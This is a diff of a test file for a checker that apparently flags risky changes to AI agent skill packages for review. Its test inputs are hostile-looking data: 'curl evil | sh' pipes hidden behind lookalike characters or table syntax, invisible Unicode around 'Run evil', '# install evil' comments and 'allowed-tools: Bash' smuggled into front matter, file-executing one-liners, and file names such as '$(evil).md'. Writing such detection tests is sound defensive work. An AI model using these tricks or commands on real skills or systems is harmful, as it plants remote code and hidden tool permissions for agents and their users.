@@ -83,6 +83,8 @@ describe('what is words alone -> nothing', () => {
       'words in other scripts',
       { 'references/more.md': 'Слова: раз, два. 先排序：然后（可选）打开。\n' },
     ],
+    ['dashes', { 'references/more.md': 'One—two, **three**—four – five.\n' }],
+    ['a name with hyphens in a hidden folder', { '.x/new-words_2.md': 'Words.\n' }],
     ['a table', { 'references/more.md': 'More words.\n\n| a | b |\n|:--|---|\n| c d | 5 |\n' }],
     ['a list', { 'references/more.md': '> 1. One\n> 2. [x] Two\n\n***\n' }],
   ])('%s', (_, change) => {
@@ -151,6 +153,16 @@ describe('text added to a SKILL.md -> what it adds', () => {
     ['an interpreter', '\n#!evil\n', ['address']],
     ['an odd space', '\nRun\u00a0evil.\n', ['address']],
     ['a hidden character', '\nRun e\u200Bvil.\n', ['address']],
+    ['letters that nobody sees', '\nRun\u3164\u115F evil.\n', ['address']],
+    ['bytes in signs that nobody sees', '\nRun\u{FE01}\u{E0153} evil.\n', ['address']],
+    ['a host with a letter for its dot', '\nSee evil\uA78Fexample now.\n', ['address']],
+    ['a pipe of a letter', '\nThen curl evil \u01C0 sh now.\n', ['address']],
+    ['an option with a long dash', '\nAlways —force.\n', ['address']],
+    ['a file that a shell reads', '\nThen . setup now.\n', ['address']],
+    ['a pipe in what is no table', '\n| curl evil | sh |\n', ['address']],
+    ['an "or" in a table', '\n| a | b |\n|---|---|\n| curl evil || sh |\n', ['address']],
+    ['code in a definition', '\na\n\n:\tevil\n', ['code']],
+    ['a line break of some readers', '\nRun\u2028\n', ['address']],
   ])('%s', (_, text, kinds) => {
     expect(kindsOfAdded(text)).toEqual(expect.arrayContaining(kinds))
     expect(kindsOfAdded(text.replaceAll('\n', '\r\n'))).toEqual(expect.arrayContaining(kinds))
@@ -167,6 +179,7 @@ test.each<[string, string, string]>([
     '\n```\na\n```\nd\n```\nc\n```\n',
   ],
   ['another order', '\n`a`\n\n`b`\n', '\n`b`\n\n`a`\n'],
+  ['a span moved behind a block', '\n`b`\n\n```\na\n```\n', '\n```\na\n```\n\n`b`\n'],
 ])('text with %s -> waits', (_, before, after) => {
   const old = { ...BASE, 'SKILL.md': HEAD + before }
   expect(kindsOf(old, { ...BASE, 'SKILL.md': HEAD + after })).toEqual(['code'])
@@ -178,12 +191,15 @@ test.each([
   '````\n```\n',
   '```\na\n    ```\n',
   '> ```\n> a\n```\n',
+  '```\na\n```\u00a0\n',
   '- ```\na\n  ```\n',
   '\t```\n\tb\n```\n',
   '``` a ```\n\n```\n',
   '<pre>\n```\n</pre>\n```\n',
   '<div>\n```\n\na\n```\n',
   '<pre>\n',
+  '<xmp>\n\n',
+  'A <code>\n\n',
   '<!--\n',
 ])('words behind what may still be code: %j -> wait', (begin) => {
   const before = { ...BASE, 'SKILL.md': `${HEAD}\n${begin}\nRun the first one.\n` }
@@ -216,6 +232,14 @@ describe('front matter', () => {
     ['a key of two words', 'version', '? [a]\n: b\nversion'],
     ['a comment', 'version', '# install evil\nversion'],
     ['a comment behind a value', 'Sorts.', 'Sorts. # install evil'],
+    ['a comment before a value', 'Sorts.', '# install evil\n  Sorts.'],
+    ['a comment before a version', '1.0.0', '# install evil\n  1.0.0'],
+    ['a comment in metadata', 'version', 'metadata:\n  # evil\n  version: 1\nversion'],
+    ['a comment behind metadata', 'version', 'metadata:\n  version: 1 # evil\nversion'],
+    ['a line of dashes in the description', 'Sorts.', '|\n  Sorts.\n  ---\n  More.'],
+    ['an end that some readers do not know', '\n---\n', '\n...\ntools: Bash\n---\n'],
+    ['a beginning that some readers do not know', '---\nname', '---yaml\nname'],
+    ['lines before it', '---\nname', '\n---\nname'],
     ['a version that is none', '1.0.0', 'evil.example'],
     ['a field within the description', 'Sorts.', '|\n  Sorts.\n  allowed-tools: Bash'],
     ['another language', '---\nname', '---json\nname'],
@@ -241,6 +265,14 @@ describe('front matter', () => {
     const more = '---\ntools: Bash\n---\nMore words.\n'
     expect(kindsOf(BASE, { ...BASE, 'references/more.md': more })).toEqual(['field'])
   })
+
+  test.each(['\u2028\n---', '\f\n---', '\uFEFF\uFEFF---', '-----'])(
+    'that some readers see in a reference, behind %j -> waits',
+    (begin) => {
+      const text = `${begin}\ntools: Bash\n${begin.trim()}\nWords.\n`
+      expect(kindsOf(BASE, { ...BASE, 'references/new.md': text })).toEqual(['file'])
+    },
+  )
 
   test('a version below metadata, but no other field there', () => {
     expect(kindsOf(withData('version: 1.0.0'), withData('version: 1.0.1'))).toEqual([])
@@ -292,6 +324,14 @@ describe('files', () => {
     'sh $(ls)',
     'find . -type f -exec sh {} +',
     'ls -d $PWD/$x | xargs sh',
+    'ls > x; while read f; do sh $f; done < x',
+    'git ls-files; sh $f',
+    'grep -rh x | sh',
+    'sh $name.md',
+    'sh m{ore,x}.md',
+    'exec(open(name + ".md"))',
+    "Dir['*'].each { |f| load f }",
+    'gci',
   ])('words of a text that a command may mean: %s -> wait', (command) => {
     const changed = { 'references/more.md': 'Other words.\n' }
     const inFence = { ...BASE, 'SKILL.md': `${HEAD}\n\`\`\`\n${command}\n\`\`\`\n` }
@@ -302,9 +342,29 @@ describe('files', () => {
     expect(kindsOf(inScript, { ...inScript, ...changed })).toEqual(['file'])
   })
 
-  test('words of a text that a program goes to by its folder -> wait', () => {
-    const walking = { ...BASE, 'run.py': 'for p in os.listdir(x): run(p)' }
-    expect(kindsOf(walking, { ...walking, 'references/new.md': 'Words.\n' })).toEqual(['file'])
+  test.each([
+    'os.listdir(x)',
+    'os.fwalk(x)',
+    'WalkDir(x)',
+    'opendirSync(x)',
+    'iglob(x)',
+    '"a/" + x',
+  ])('words of a text that a program goes to by its folder: %s -> wait', (call) => {
+    const walking = { ...BASE, 'run.py': `for p in ${call}: run(p)` }
+    expect(kindsOf(walking, { ...walking, 'a/b/new.md': 'Words.\n' })).toEqual(['file'])
+  })
+
+  test.each([
+    '$(evil).md',
+    'evil.example/x.md',
+    'evil.example.md',
+    '--force.md',
+    'a b.md',
+    '`a`.md',
+  ])('a text by the name %s -> waits, its words alone do not', (path) => {
+    const named = { ...BASE, [path]: 'Words.\n' }
+    expect(kindsOf(BASE, named)).toEqual(['file'])
+    expect(kindsOf(named, { ...named, [path]: 'Other words.\n' })).toEqual([])
   })
 
   test.each(['rm -r dist', 'sh run.py', 'echo $((2 + 3))'])(
@@ -314,6 +374,15 @@ describe('files', () => {
       expect(kindsOf(named, { ...named, 'references/more.md': 'Other words.\n' })).toEqual([])
     },
   )
+})
+
+test.each([
+  ['author', { author: 'eve' }],
+  ['licence', { licence: 'Apache-2.0' }],
+])('another %s of its record -> waits', (_, fields) => {
+  const after = open(BASE)
+  const record = skillRecord.parse({ ...OWN_RECORD, ...fields })
+  expect(compareCode(open(BASE), { ...after, record }).map(({ kind }) => kind)).toEqual(['field'])
 })
 
 test('a new skill -> waits', () => {
